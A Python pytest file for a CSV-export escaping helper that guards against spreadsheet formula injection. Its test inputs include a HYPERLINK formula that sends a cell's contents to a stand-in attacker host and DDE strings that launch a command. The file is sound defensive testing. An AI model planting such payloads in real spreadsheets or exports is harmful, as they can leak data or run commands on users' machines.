"""Issue 13: spreadsheet formula injection through CSV exports."""

from __future__ import annotations

import csv
import io

import pytest

from secretariat_shared.spreadsheets import csv_document, safe_cell

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3", "+4.5", "-0.25", "1e3", 7, -2.5, None, "", "普通议题"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_every_row_and_the_header_go_through_the_escape() -> None:
    content = csv_document(["topic", "=n"], [["=1+1", 5], ["会议", "-7"]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["topic", "'=n"], ["'=1+1", "5"], ["会议", "-7"]]
